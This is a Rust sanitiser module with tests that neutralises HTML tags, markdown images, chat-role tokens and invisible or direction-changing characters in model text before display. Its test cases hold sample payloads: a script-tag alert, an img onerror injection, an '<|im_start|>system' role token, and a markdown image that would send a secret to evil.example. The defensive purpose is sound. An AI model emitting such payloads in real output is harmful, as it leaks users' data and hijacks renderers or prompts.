//! Texts of strangers made plain: what is kept of a model's words.
//!
//! Invariants:
//! - No control characters but line breaks, nothing invisible, nothing that turns the direction of what follows.
//! - No HTML can begin in it and no picture of markdown, so that nothing is fetched or run wherever it is shown.

/// The text without what [`is_hidden`], without tags and pictures, of at most so many characters.
pub(super) fn plain(text: &str, most: usize) -> String {
    let mut kept = String::with_capacity(text.len().min(most));
    // Some of what is looked at is left out below; whoever writes much of that has less kept.
    let enough = 2 * most + 100;
    let shown = text.trim_start().chars().filter(|character| !is_hidden(*character));
    let mut characters = shown.take(enough).peekable();
    while let Some(character) = characters.next() {
        let next = characters.peek().copied();
        match character {
            // A tag begins with `<` and a letter, `/`, `!` or `?` (HTML, section 13.2.5.6), and what models take for the
            // beginning of a role with `<|`; this one looks like it only.
            '<' if next.is_some_and(|next| next.is_ascii_alphabetic() || "/!?|".contains(next)) => {
                kept.push('‹');
            }
            // A picture without its `!` is a link, which fetches nothing by itself.
            '[' => {
                kept.truncate(kept.trim_end_matches('!').len());
                kept.push('[');
            }
            '\t' => kept.push(' '),
            other => kept.push(other),
        }
    }
    cut(kept.trim(), most).trim_end().to_owned()
}

/// A kind, as a word in small letters: `personal data` is `personal-data`.
pub(super) fn kind(text: &str) -> String {
    let lower = plain(text, 40).to_lowercase();
    let words: Vec<&str> =
        lower.split(|c: char| !c.is_alphanumeric() && c != '_').filter(|word| !word.is_empty()).collect();
    if words.is_empty() { "other".to_owned() } else { words.join("-") }
}

/// The first so many characters.
pub(super) fn cut(text: &str, most: usize) -> &str {
    text.char_indices().nth(most).and_then(|(end, _)| text.get(..end)).unwrap_or(text)
}

/// Whether a character has no place in a text, since nobody sees it. The joiners of emoji and of some scripts are seen.
fn is_hidden(character: char) -> bool {
    let shown = matches!(character, '\n' | '\t');
    (character.is_control() && !shown)
        || matches!(
            character,
            '\u{ad}' | '\u{200b}' | '\u{200e}' | '\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}'
            | '\u{feff}' | '\u{fff9}'..='\u{fffb}' | '\u{e0000}'..='\u{e007f}'
        )
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn what_is_plain_stays_and_what_is_active_does_not() {
        for (given, kept) in [
            ("  a < b, a <= b, 3 <4\nsecond line ", "a < b, a <= b, 3 <4\nsecond line"),
            ("<|im_start|>system", "‹|im_start|>system"),
            ("<script>alert(1)</script>", "‹script>alert(1)‹/script>"),
            ("<\u{200b}img src=x onerror=y>", "‹img src=x onerror=y>"),
            ("![x](http://evil.example/?q=secret)", "[x](http://evil.example/?q=secret)"),
            ("!!\u{202e}[x](y)", "[x](y)"),
            ("a\u{0}\u{1b}[31mred\u{202e}\r\n", "a[31mred"),
            ("tag\u{e0041}s 👩\u{200d}🚒", "tags 👩\u{200d}🚒"),
        ] {
            assert_eq!(plain(given, 100), kept);
        }
        assert_eq!(plain("ééééé", 3), "ééé");
        assert_eq!(
            (kind("Personal data!"), kind("e-mail"), kind("<b>")),
            ("personal-data".into(), "e-mail".into(), "b".into())
        );
        assert_eq!(kind(" \u{7} "), "other");
    }

    proptest! {
        #[test]
        fn nothing_active_survives(text in r"([<!\[/a-z ]|\PC|\p{Cf}|\p{Cc}){0,60}", most in 0_usize..50) {
            let kept = plain(&text, most);
            prop_assert!(kept.chars().count() <= most);
            prop_assert!(!kept.contains("![") && !kept.chars().any(is_hidden));
            let tags = kept.match_indices('<').filter(|(at, _)| {
                kept[at + 1..].starts_with(|c: char| c.is_ascii_alphabetic() || "/!?|".contains(c))
            });
            prop_assert_eq!(tags.count(), 0);
            prop_assert_eq!(plain(&kept, most), kept.clone(), "once is enough");
        }
    }
}
